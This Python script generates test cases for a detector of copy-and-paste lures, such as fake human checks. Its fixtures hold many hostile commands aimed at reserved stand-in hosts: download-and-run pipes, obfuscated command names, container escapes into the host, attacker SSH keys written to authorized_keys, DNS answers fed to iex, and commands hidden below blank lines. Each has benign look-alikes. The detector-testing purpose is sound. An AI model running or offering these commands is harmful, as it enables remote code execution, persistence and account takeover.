"""Writes tests/data/cases/lures5.jsonl: lure techniques that were still missing or only warned
about after lures4, each written several ways, in its context and bare, beside the everyday
texts that look like it and must stay quiet.

    python tests/data/cases/make_lures5.py

Deterministic. Hosts are reserved names (*.test, *.invalid, *.example) and documentation
addresses; keys and codes are made up here. No text is copied from a lure collection, an IOC
file or another detector's fixtures. Each line is {id, text, expect, technique, platform[,
source], target}.

Techniques (each lure also bare, `-bare`: no page, target unknown, expected `flagged`):

- `copy-var-start`: a file copied from another computer or downloaded to a path kept in a
  PowerShell (or cmd, or shell) variable, then started through the variable; .NET's
  [IO.File]::Copy; a powershell -c "…" whose inner quotes are written \\" as the Run box
  passes them;
- `sh-cut-names`: a command's name cut out of another variable (${PATH:0:1}, ${SHELL:6:1}),
  named by indirection (${!x}) or printed by printf '%b';
- `container-host`: a container given the host's root disk and stepped into (chroot, with or
  without --privileged), or written into; nsenter into process 1; a Kubernetes pod with the
  host's processes, disk or privileges; a node debug shell; each with a download or a write
  into the host (alone these are an admin's repair: info, and among the look-alikes);
- `blank-lines`: a real command pushed out of view by lines of nothing but blanks, tabs,
  no-break or zero-width spaces;
- `ssh-key-in`: a stranger's public key written into authorized_keys (echo, printf, tee,
  a here-document, base64, Windows' administrators_authorized_keys): `flagged` in context and
  bare (a warning: writing a key is no command that runs anything, so a page's lure traits do
  not make it a block, see scoring.py);
- `paste-keys`: orders to open a terminal with Ctrl+Alt+T, Alt+F2 or Spotlight (Command+Space)
  and paste a download-and-run, in English and other languages;
- `remote-assist`: Quick Assist, Remote Assistance or a remote-control tool alone, copied from a
  web page into the Run box (`flagged`; bare, and typed with no page, it stays quiet: its bare
  twin expects `not_flagged`);
- `prefix-then-stranger`: a stranger's script run after an innocent first command
  (xcode-select --install && …), the same as alone;
- `dns-answer`: a name server's answer (an A lookup's Name: line, not only TXT) filtered and
  handed to cmd or PowerShell, or looped over by for /f; Resolve-DnsName's name into iex;
- `detached-run`: a download-and-run left running in a detached screen or tmux session, under
  setsid, or handed to at(1);
- `other-downloader`: aria2c, axel, lwp-download or wget2 saving a file a shell runs; a file
  saved under ~ made runnable and started;
- `copy-unix`: a file with no extension brought by scp or rsync:// and started by a shell or
  by its path;
- `share-text-run`: a text file on another computer's share (or another computer's answer
  over ssh) run by cmd or PowerShell;
- `saved-login`: cmdkey storing a password for a server on the internet, then Remote Desktop
  or a network drive to it;
"""

from __future__ import annotations

from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("lures5.jsonl")
BENIGN = "none"
# pages that share nothing with what their commands fetch
SHOP = "https://www.tidewater-bakery.example/order/confirm"
CAPTCHA = "https://verify.lumen-check.example/human"
MEET = "https://meet-join.harbor-call.example/j/5521"
FORUM = "https://forum.retro-consoles.example/t/8812"
DOCS = "https://learn.example.org/docs/admin"

# technique, text, expect, platform, target, page
Row = tuple[str, str, str, str, str, "str | None"]


def case(
    cid: str, text: str, expect: str, technique: str, platform: str, target: str, page: str | None
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, page, target)


# what a lure's bare twin (no page, target unknown) is expected to be, when not `flagged`
BARE = {"remote-assist": "not_flagged"}


# -- 1. copy (or download) to a path kept in a variable, then start it through the variable ----
_HOSTS = (
    "\\\\files.lumen-gate.test\\pub",
    "\\\\198.51.100.7\\s",
    "\\\\cdn.quay-helper.invalid@SSL\\d",
)
_URLS = (
    "https://cdn.lumen-gate.test/upd",
    "http://198.51.100.61/pkg/u",
    "https://dl.quay-helper.invalid/s",
)


def copy_var_start() -> list[Row]:
    rows: list[Row] = []
    pages = (SHOP, CAPTCHA, MEET)
    for i, (share, url, page) in enumerate(zip(_HOSTS, _URLS, pages, strict=True)):
        exe = ("upd.exe", "svc.exe", "helper.exe")[i]
        ps_rows = [
            f'$p="$env:TEMP\\{exe}"; Copy-Item {share}\\{exe} $p; Start-Process $p',
            f"$p = Join-Path $env:APPDATA '{exe}'; Copy-Item -Path '{share}\\{exe}' -Destination $p; & $p",
            f"$d=\"$env:TEMP\\{exe}\";[IO.File]::Copy('{share}\\{exe}',$d,$true);& $d",
            f'[System.IO.File]::Copy("{share}\\data.bin", "$env:PUBLIC\\{exe}"); saps "$env:PUBLIC\\{exe}"',
            f'$t=$env:TEMP+"\\{exe}"; Copy-Item {share}\\q.bin $t; saps $t',
            f'$p="$env:TEMP\\{exe}"; iwr {url} -OutFile $p; & $p',
            f'$o = "$env:LOCALAPPDATA\\{exe}"; Invoke-WebRequest -Uri {url} -OutFile $o; Start-Process -FilePath $o -WindowStyle Hidden',
            f'$t=$env:TEMP+"\\{exe}";(New-Object Net.WebClient).DownloadFile("{url}",$t);saps $t',
        ]
        for text in ps_rows:
            rows.append(("copy-var-start", text, "malicious", "windows", "terminal", page))
        rows.append(
            (
                "copy-var-start",
                'powershell -w h -c "$p=\\"$env:TEMP\\'
                + exe
                + '\\"; Copy-Item '
                + share
                + "\\"
                + exe
                + ' $p; Start-Process $p"',
                "malicious",
                "windows",
                "run_dialog",
                page,
            )
        )
        rows.append(
            (
                "copy-var-start",
                f"cmd /c set f=%TEMP%\\{exe}& copy {share}\\z.dat %f% & start %f%",
                "malicious",
                "windows",
                "run_dialog",
                page,
            )
        )
    return rows


def copy_var_start_benign() -> list[Row]:
    ok = "ok-copy-var-start"
    return [
        (ok, '$p = "$env:TEMP\\report.csv"; Copy-Item \\\\fileserver\\finance\\report.csv $p; Import-Csv $p | Measure-Object', "not_flagged", "windows", "terminal", DOCS),
        (ok, '$src = "\\\\fs01.corp.example.com\\pkg\\agent.msi"; $dst = "C:\\Deploy\\agent.msi"; Copy-Item $src $dst; msiexec /i $dst /qn', "not_flagged", "windows", "terminal", None),
        (ok, "$log = Join-Path $env:TEMP 'build.log'; dotnet build *> $log; Get-Content $log -Tail 20", "not_flagged", "windows", "terminal", DOCS),
        (ok, '[IO.File]::Copy("C:\\Users\\me\\notes.txt", "D:\\Backup\\notes.txt", $true)', "not_flagged", "windows", "terminal", DOCS),
        (ok, '$d = "$env:USERPROFILE\\Downloads\\data.json"; Invoke-WebRequest https://api.example.org/v1/export -OutFile $d; Get-Content $d | ConvertFrom-Json', "not_flagged", "windows", "terminal", DOCS),
        (ok, "$p = \"$env:TEMP\\x.exe\"; Test-Path $p; Remove-Item $p -ErrorAction SilentlyContinue", "not_flagged", "windows", "terminal", DOCS),
        (ok, "set out=%USERPROFILE%\\Desktop\\ipconfig.txt& ipconfig /all > %out% & notepad %out%", "not_flagged", "windows", "terminal", DOCS),
        (ok, "$iso = 'D:\\Images\\win11.iso'; Mount-DiskImage -ImagePath $iso", "not_flagged", "windows", "terminal", DOCS),
    ]  # fmt: skip


# -- 2. a command's name cut out of another variable, or named by indirection ----------------
def sh_cut_names() -> list[Row]:
    t = "sh-cut-names"
    u = (
        "https://cdn.lumen-gate.test/i",
        "http://198.51.100.2/s",
        "https://files.quay-helper.invalid/m",
    )
    rows: list[Row] = []
    for i, url in enumerate(u):
        page = (SHOP, CAPTCHA, FORUM)[i]
        plat = ("linux", "macos", "linux")[i]
        for text in (
            f'${{PATH:0:1}}bin${{PATH:0:1}}bash -c "$(curl -fsSL {url})"',
            f"${{PATH:0:1}}usr${{PATH:0:1}}bin${{PATH:0:1}}curl -s {url}|${{PATH:0:1}}bin${{PATH:0:1}}sh",
            f"${{HOME:0:1}}usr${{HOME:0:1}}bin${{HOME:0:1}}wget -qO- {url} | b${{SHELL:6:1}}sh",
            f"s=abcurlxyz; ${{s:2:4}} -fsSL {url} | ${{SHELL:0:9}}",
            f"x=curl; y=x; ${{!y}} -s {url} | sh",
            f"a=bash; p=a; curl -s {url} | ${{!p}}",
            f"$(printf '%b' '\\x63\\x75\\x72\\x6c') -s {url} | $(printf '%b' '\\x73\\x68')",
            f"$(printf '%b' '\\143\\165\\162\\154') -fsSL {url} | bash",
        ):
            rows.append((t, text, "malicious", plat, "terminal", page))
    return rows


def sh_cut_names_benign() -> list[Row]:
    ok = "ok-sh-cut-names"
    return [
        (ok, "docker tag web:latest registry.example.org/web:${GITHUB_SHA:0:7}", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'echo "short id: ${COMMIT:0:8}"', "not_flagged", "linux", "terminal", DOCS),
        (ok, 'for v in HOME USER SHELL; do echo "$v=${!v}"; done', "not_flagged", "linux", "terminal", DOCS),
        (ok, 'name=PATH; echo "${!name}" | tr : "\\n"', "not_flagged", "linux", "terminal", DOCS),
        (ok, "printf '%b\\n' 'line one\\tindented'", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'branch=$(git rev-parse --abbrev-ref HEAD); echo "${branch:0:20}"', "not_flagged", "linux", "terminal", DOCS),
        (ok, "${EDITOR:-vim} ~/.bashrc", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'ver=1.24.3; curl -fsSLO "https://go.dev/dl/go${ver}.linux-amd64.tar.gz" && echo "major ${ver:0:4}"', "not_flagged", "linux", "terminal", DOCS),
    ]  # fmt: skip


# -- 3. a container that takes over this computer -----------------------------------------
def container_host() -> list[Row]:
    t = "container-host"
    rows: list[Row] = []
    for i, url in enumerate(("https://cdn.lumen-gate.test/k", "http://198.51.100.23/n")):
        page = (FORUM, "https://docs.quietfox.example/docker/troubleshooting")[i]
        for text in (
            f"docker run --rm -v /:/host alpine chroot /host sh -c 'curl -s {url} | sh'",
            f'docker run -it --mount type=bind,source=/,target=/h ubuntu chroot /h bash -c "wget -qO- {url} | bash"',
            f"sudo docker run --rm --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c 'curl -fsSL {url} | sh'",
            f"podman run --rm -v /:/mnt docker.io/library/alpine sh -c \"echo '* * * * * root curl -s {url}|sh' >> /mnt/etc/crontab\"",
            f'kubectl run fix-{i} --image=alpine --restart=Never -it --overrides=\'{{"spec":{{"hostPID":true,"containers":[{{"name":"f","image":"alpine","stdin":true,"tty":true,"securityContext":{{"privileged":true}},"command":["nsenter","-t","1","-m","-u","-n","sh","-c","curl -s {url} | sh"]}}]}}}}\'',
            f"kubectl debug node/worker-1 -it --image=busybox -- chroot /host sh -c 'curl -s {url} | sh'",
        ):
            rows.append((t, text, "malicious", "linux", "terminal", page))
    return rows


def container_host_benign() -> list[Row]:
    ok = "ok-container-host"
    k8s = "https://kubernetes.example.org/docs/tasks/debug/debug-cluster/kubectl-node-debug/"
    return [
        (ok, "docker run --rm -it -v /:/mnt alpine chroot /mnt sh", "not_flagged", "linux", "terminal", None),
        (ok, "kubectl debug node/worker-1 -it --image=ubuntu", "not_flagged", "linux", "terminal", k8s),
        (ok, "kubectl debug node/worker-1 -it --image=busybox -- chroot /host journalctl -u kubelet -n 50", "not_flagged", "linux", "terminal", k8s),
        (ok, "docker run -d --name node-exporter --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter:latest --path.rootfs=/host", "not_flagged", "linux", "terminal", DOCS),
        (ok, "docker run -d --privileged --name dind docker:dind", "not_flagged", "linux", "terminal", DOCS),
        (ok, "docker run --rm -v $(pwd):/src -w /src node:22 npm ci", "not_flagged", "linux", "terminal", DOCS),
        (ok, "kubectl run tmp --rm -it --image=busybox --restart=Never -- nslookup kubernetes.default", "not_flagged", "linux", "terminal", DOCS),
        (ok, 'kubectl run dbg --image=alpine --overrides=\'{"spec":{"nodeSelector":{"kubernetes.io/hostname":"worker-2"}}}\' -it -- sh', "not_flagged", "linux", "terminal", DOCS),
    ]  # fmt: skip


# -- 4. blank-looking lines that push the real command out of view ---------------------------
def blank_lines() -> list[Row]:
    t = "blank-lines"
    fills = (" " * 3, "\t\t", " \t ", "\u00a0\u00a0", "\u200b", " \u3000 ")
    rows: list[Row] = []
    for i, fill in enumerate(fills):
        pad = "\n".join([fill] * (26 + 3 * i))
        nix = (
            "curl -fsSL https://cdn.lumen-gate.test/v | bash",
            "wget -qO- http://198.51.100.2/i | sh",
        )[i % 2]
        rows.append(
            (
                t,
                f"# Human verification - step 1 of 2\n{pad}\n{nix}",
                "malicious",
                "linux",
                "terminal",
                CAPTCHA,
            )
        )
        rows.append(
            (
                t,
                f"echo 'Checking your connection...'\n{pad}\n{nix}",
                "malicious",
                "macos",
                "terminal",
                SHOP,
            )
        )
        rows.append(
            (
                t,
                f"Write-Host 'Verifying...'\n{pad}\niex (irm https://cdn.lumen-gate.test/p{i})",
                "malicious",
                "windows",
                "terminal",
                MEET,
            )
        )
    return rows


def blank_lines_benign() -> list[Row]:
    ok = "ok-blank-lines"
    pad = "\n".join(["    "] * 30)
    return [
        (ok, f"echo start\n{pad}\necho done", "not_flagged", "linux", "terminal", DOCS),
        (ok, f"def main():\n    pass\n{pad}\nif __name__ == '__main__':\n    main()", "not_flagged", "any", "other", None),
        (ok, f"ls -la\n{pad}\nchmod 600 ~/.ssh/id_ed25519", "not_flagged", "linux", "terminal", None),
    ]  # fmt: skip


# -- 5. a stranger's SSH key written into authorized_keys --------------------------------------
_KEYS = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr support@helpdesk",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPz4Rk2Lw9Tq7Vb1Nc3Xm5Hy8Gd6Fs0Ja2Ke4Ui7Oo9Yt backup-agent",
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC"
    + "q7Zx2Lm9Pw4Rt8Vn3Kb6Yh1Jd5Gf0Sa" * 6
    + "= ops@node",
)


def ssh_key_in() -> list[Row]:
    import base64

    t = "ssh-key-in"
    rows: list[Row] = []
    for i, key in enumerate(_KEYS):
        page = (CAPTCHA, SHOP, MEET)[i]
        enc = base64.b64encode(key.encode()).decode()
        for text, expect in (
            (f"echo '{key}' >> ~/.ssh/authorized_keys", "flagged"),
            (
                f'mkdir -p ~/.ssh && echo "{key}" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys',
                "flagged",
            ),
            (f"printf '%s\\n' '{key}' | tee -a ~/.ssh/authorized_keys >/dev/null", "flagged"),
            (f"echo '{key}' | sudo tee -a /root/.ssh/authorized_keys", "flagged"),
            (f"cat >> ~/.ssh/authorized_keys <<'EOF'\n{key}\nEOF", "flagged"),
            (f"echo {enc} | base64 -d >> ~/.ssh/authorized_keys", "flagged"),
            (
                f"Add-Content -Path $env:ProgramData\\ssh\\administrators_authorized_keys -Value '{key}'",
                "flagged",
            ),
            (
                f"# Cloudflare human check - paste and press Enter\necho '{key}' >> ~/.ssh/authorized_keys # verification ID 8812",
                "flagged",
            ),
        ):
            rows.append((t, text, expect, "linux", "terminal", page))
    return rows


def ssh_key_in_benign() -> list[Row]:
    ok = "ok-ssh-key-in"
    ssh_docs = "https://docs.example-hosting.example/ssh-keys"
    return [
        (ok, "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@server.example.org", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA... you@laptop' >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, "echo '<your public key>' >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, "curl -fsSL https://github.com/octocat.keys >> ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, "chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, f"ssh_authorized_keys:\n  - {_KEYS[0]}", "not_flagged", "linux", "other", None),
        (ok, f"ssh-keygen -lf /dev/stdin <<< '{_KEYS[1]}'", "not_flagged", "linux", "terminal", ssh_docs),
        (ok, f"{_KEYS[0]}", "not_flagged", "any", "other", None),
    ]  # fmt: skip


# -- 6. orders to open a terminal with a key combination and paste ---------------------------
def paste_keys() -> list[Row]:
    t = "paste-keys"
    software = "https://docs.quietfox.example/linux/fix-audio"
    rows: list[Row] = []
    texts = (
        "Press Ctrl+Alt+T to open a terminal, then paste this and press Enter:\ncurl -fsSL https://cdn.lumen-gate.test/fix.sh | bash",
        "To verify you are human: press Ctrl + Alt + T, paste (Ctrl+Shift+V) and press Enter.\nwget -qO- https://cdn.lumen-gate.test/v | sh",
        'Press Alt+F2, paste the line below and press Enter:\nsh -c "$(curl -s https://cdn.lumen-gate.test/v)"',
        'Open Spotlight (⌘ + Space), type Terminal and paste the line below:\n/bin/bash -c "$(curl -fsSL https://cdn.lumen-gate.test/install.sh)"',
        "Press ⌘+Space, type Terminal, paste with ⌘+V and press Return:\ncurl -fsSL https://cdn.lumen-gate.test/m | zsh",
        "Drücken Sie Strg+Alt+T und fügen Sie ein:\ncurl -fsSL https://cdn.lumen-gate.test/fix.sh | bash",
        "Appuyez sur Ctrl+Alt+T puis collez :\nwget -qO- https://cdn.lumen-gate.test/v | sh",
        "Pulsa Ctrl+Alt+T y pega esto:\ncurl -s https://cdn.lumen-gate.test/e | bash",
    )
    for text in texts:
        rows.append((t, text, "malicious", "linux", "terminal", software))
        rows.append((t, text, "malicious", "linux", "terminal", SHOP))
    return rows


def paste_keys_benign() -> list[Row]:
    ok = "ok-paste-keys"
    vlc = "https://www.videolan.example/vlc/download-ubuntu.html"
    return [
        (ok, "Press Ctrl+Alt+T to open a terminal, then paste:\nsudo apt install vlc", "not_flagged", "linux", "terminal", vlc),
        (ok, "Open a terminal with Ctrl+Alt+T and paste: sudo snap install vlc", "not_flagged", "linux", "terminal", vlc),
        (ok, "Press Alt+F2, type gnome-terminal and press Enter.", "not_flagged", "linux", "other", vlc),
        (ok, "Open Spotlight (⌘ + Space), type Terminal and paste: xcode-select --install", "not_flagged", "macos", "terminal", DOCS),
        (ok, "Never paste commands from a 'verify you are human' page: fake CAPTCHAs tell you to press Ctrl+Alt+T and paste curl … | bash.", "not_flagged", "any", "other", DOCS),
        (
            ok,
            "Press Ctrl+Alt+T, paste the line and press Enter:\ncurl -fsSL https://get.quietfox.example/install.sh | sh",
            "not_flagged",
            "linux",
            "terminal",
            "https://quietfox.example/docs/install",
        ),
    ]  # fmt: skip


# -- 7. a remote-assistance program alone in the Run box ---------------------------------------
def remote_assist() -> list[Row]:
    t = "remote-assist"
    pages = ("https://support-desk.lumen-gate.test/ticket/4412", SHOP)
    rows: list[Row] = []
    for page in pages:
        for text in (
            "quickassist",
            "quickassist.exe",
            "%windir%\\system32\\quickassist.exe",
            "ms-quick-assist:",
            "msra /novice",
            "msra",
            "anydesk",
        ):
            rows.append((t, text, "flagged", "windows", "run_dialog", page))
    return rows


def remote_assist_benign() -> list[Row]:
    ok = "ok-remote-assist"
    return [
        (ok, "quickassist", "not_flagged", "windows", "run_dialog", None),
        (ok, "msra", "not_flagged", "windows", "run_dialog", None),
        (ok, "mstsc", "not_flagged", "windows", "run_dialog", DOCS),
        (ok, "quickassist", "not_flagged", "windows", "other", "https://support-desk.lumen-gate.test/ticket/4412"),
        (ok, "Quick Assist lets a helper you called see your screen; never start it for a caller you do not know.", "not_flagged", "any", "other", DOCS),
        (ok, "control printers", "not_flagged", "windows", "run_dialog", DOCS),
    ]  # fmt: skip


# -- 8. an innocent command first, a stranger's script after ---------------------------------
def prefix_then_stranger() -> list[Row]:
    t = "prefix-then-stranger"
    software = "https://docs.quietfox.example/mac/setup"
    rows: list[Row] = []
    for prefix in ("xcode-select --install && ", "xcode-select --install; ", "sw_vers && ", "brew update; ",
                   "softwareupdate --install-rosetta --agree-to-license && ", "cd ~ && "):  # fmt: skip
        for body in (
            'bash -c "$(curl -fsSL https://cdn.lumen-gate.test/setup.sh)"',
            "curl -fsSL https://cdn.lumen-gate.test/setup.sh | bash",
        ):
            rows.append((t, prefix + body, "malicious", "macos", "terminal", SHOP))
            rows.append((t, prefix + body, "flagged", "macos", "terminal", software))
    return rows


# -- 9. our own variants of 2025-2026 reports, probed bare and in context --------------------
def dns_answer() -> list[Row]:
    t = "dns-answer"
    ns = "198.51.100.53"
    rows = [
        f'cmd /c nslookup -type=A cfg.lumen-gate.test {ns} | findstr "^Name:" | cmd',
        f'cmd /c "nslookup -type=A cdn.lumen-gate.test {ns} | findstr "^Name:" | for /f "tokens=1,*" %a in (\'more\') do @echo %b" | cmd',
        f'cmd /c "for /f "skip=4 tokens=2" %i in (\'nslookup cfg.lumen-gate.test {ns}\') do powershell -nop -c %i"',
        f'cmd /c nslookup stage.lumen-gate.test {ns} | find "Name" | powershell -',
        f'powershell -c "(Resolve-DnsName cfg.lumen-gate.test -Server {ns}).NameHost | iex"',
        f'powershell -w h -c "iex (Resolve-DnsName k.lumen-gate.test -Server {ns} -Type TXT).Strings"',
    ]
    return [(t, text, "malicious", "windows", "run_dialog", CAPTCHA) for text in rows] + [
        (t, text, "malicious", "windows", "terminal", MEET) for text in rows[:3]
    ]


def detached_run() -> list[Row]:
    t = "detached-run"
    u = "https://cdn.lumen-gate.test/p"
    rows = [
        f"screen -dmS upd bash -c 'curl -s {u} | sh'",
        f"tmux new -d 'curl -s {u} | sh'",
        f'tmux new-session -d -s svc "wget -qO- {u} | bash"',
        f"setsid -f sh -c 'wget -qO- {u} | sh'",
        f"at now <<< 'curl -s {u} | sh'",
        f"echo 'curl -s {u} | sh' | at now + 1 minute",
    ]
    software = "https://docs.quietfox.example/linux/agent"
    return [(t, x, "malicious", "linux", "terminal", software) for x in rows] + [
        (t, x, "malicious", "linux", "terminal", FORUM) for x in rows
    ]


def other_downloader() -> list[Row]:
    t = "other-downloader"
    u = "https://cdn.lumen-gate.test/m"
    rows = [
        f"lwp-download {u} /tmp/p && sh /tmp/p",
        f"aria2c -d /tmp -o p {u} && bash /tmp/p",
        f"axel -q -o /tmp/p {u}; sh /tmp/p",
        f"wget2 -q -O /tmp/p {u} && bash /tmp/p",
        f"curl -fsSL {u} -o ~/Library/Application\\ Support/.helper && chmod +x ~/Library/Application\\ Support/.helper && ~/Library/Application\\ Support/.helper &",
        f"curl -fsSL {u} -o ~/.local/bin/updater && chmod 755 ~/.local/bin/updater && ~/.local/bin/updater",
    ]
    return [(t, x, "malicious", "linux", "terminal", SHOP) for x in rows]


def copy_unix() -> list[Row]:
    t = "copy-unix"
    rows = [
        "scp guest@198.51.100.9:/srv/p /tmp/p && sh /tmp/p",
        "scp -P 2222 guest@files.lumen-gate.test:agent /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
        "rsync -az rsync://198.51.100.9/pub/p /tmp/p && /tmp/p",
        "rsync -q guest@198.51.100.9:/srv/run /tmp/run && bash /tmp/run",
    ]
    # a terminal from a page with no address to weigh against it: a warning (the Run box's
    # and a lure trait's rules make the other contexts a block)
    return [(t, x, "flagged", "linux", "terminal", SHOP) for x in rows]


def share_text_run() -> list[Row]:
    t = "share-text-run"
    rows = [
        "cmd /c type \\\\198.51.100.44\\s\\p.txt | cmd",
        "cmd /k < \\\\files.lumen-gate.test@SSL\\d\\p.txt",
        "powershell Get-Content \\\\198.51.100.44\\s\\p.txt | powershell -",
        'powershell -c "iex (gc \\\\files.lumen-gate.test@SSL\\d\\p.txt -Raw)"',
        'ssh guest@198.51.100.9 -p 2222 "cat run.ps1" | powershell -',
        "ssh -o StrictHostKeyChecking=no guest@198.51.100.9 | cmd",
    ]
    return [(t, x, "malicious", "windows", "run_dialog", CAPTCHA) for x in rows]


def saved_login() -> list[Row]:
    t = "saved-login"
    rows = [
        "cmdkey /generic:TERMSRV/198.51.100.44 /user:support /pass:Welcome1 & mstsc /v:198.51.100.44",
        "cmd /c cmdkey /add:198.51.100.44 /user:guest /pass:guest && net use Z: \\\\198.51.100.44\\s",
        "cmdkey /add:files.lumen-gate.test /user:u /pass:p & explorer \\\\files.lumen-gate.test\\share",
    ]
    return [(t, x, "malicious", "windows", "run_dialog", MEET) for x in rows]


def probed_benign() -> list[Row]:
    ok = "ok-probed"
    return [
        (ok, "nslookup example.org 8.8.8.8 | findstr Address", "not_flagged", "windows", "terminal", DOCS),
        (ok, "nslookup -q=txt _dmarc.example.org", "not_flagged", "windows", "terminal", DOCS),
        (ok, 'for /f "tokens=2" %a in (\'nslookup example.org ^| findstr Address\') do @echo %a', "not_flagged", "windows", "terminal", DOCS),
        (ok, "Resolve-DnsName example.org | Select-Object Name, IPAddress", "not_flagged", "windows", "terminal", DOCS),
        (ok, "screen -dmS mc java -Xmx2G -jar server.jar nogui", "not_flagged", "linux", "terminal", DOCS),
        (ok, "tmux new -d -s build 'make -j4 2>&1 | tee build.log'", "not_flagged", "linux", "terminal", DOCS),
        (ok, "echo 'systemctl restart nginx' | at 03:00", "not_flagged", "linux", "terminal", DOCS),
        (ok, "aria2c -x4 https://releases.ubuntu.example/24.04/ubuntu-24.04-desktop-amd64.iso", "not_flagged", "linux", "terminal", DOCS),
        (ok, "scp deploy@build01:/srv/artifacts/app.tar.gz . && tar xzf app.tar.gz", "not_flagged", "linux", "terminal", DOCS),
        (ok, "rsync -az ./site/ deploy@web01.example.org:/var/www/site/", "not_flagged", "linux", "terminal", DOCS),
        (ok, "type \\\\fileserver\\it\\readme.txt", "not_flagged", "windows", "terminal", DOCS),
        (ok, "Get-Content \\\\fs01.corp.example.com\\logs\\app.log -Tail 50", "not_flagged", "windows", "terminal", DOCS),
        (ok, "ssh deploy@web01.example.org 'sudo systemctl status nginx'", "not_flagged", "linux", "terminal", DOCS),
        (ok, "cmdkey /list | findstr /i target", "not_flagged", "windows", "terminal", DOCS),
        (ok, "cmdkey /add:fs01.corp.example /user:CORP\\me /pass & net use S: \\\\fs01.corp.example\\share", "not_flagged", "windows", "terminal", DOCS),
        (ok, "curl -fsSL https://example.org/data.csv -o ~/Downloads/data.csv && wc -l ~/Downloads/data.csv", "not_flagged", "linux", "terminal", DOCS),
    ]  # fmt: skip


LURES = [
    copy_var_start,
    sh_cut_names,
    container_host,
    blank_lines,
    ssh_key_in,
    paste_keys,
    remote_assist,
    prefix_then_stranger,
    dns_answer,
    detached_run,
    other_downloader,
    copy_unix,
    share_text_run,
    saved_login,
]
LOOKALIKES = [
    copy_var_start_benign,
    sh_cut_names_benign,
    container_host_benign,
    blank_lines_benign,
    ssh_key_in_benign,
    paste_keys_benign,
    remote_assist_benign,
    probed_benign,
]


def build() -> list[dict[str, str]]:
    out: list[dict[str, str]] = []
    for make in LURES:
        for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
            cid = f"l5-{technique}-{n:02d}"
            out.append(case(cid, text, expect, technique, platform, target, page))
            bare = BARE.get(technique, "flagged")
            out.append(case(f"{cid}-bare", text, bare, technique, platform, "unknown", None))
    for make in LOOKALIKES:
        for n, (technique, text, expect, platform, target, page) in enumerate(make(), 1):
            out.append(
                case(f"l5-{technique}-{n:02d}", text, expect, BENIGN, platform, target, page)
            )
    ids = [c["id"] for c in out]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return out


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
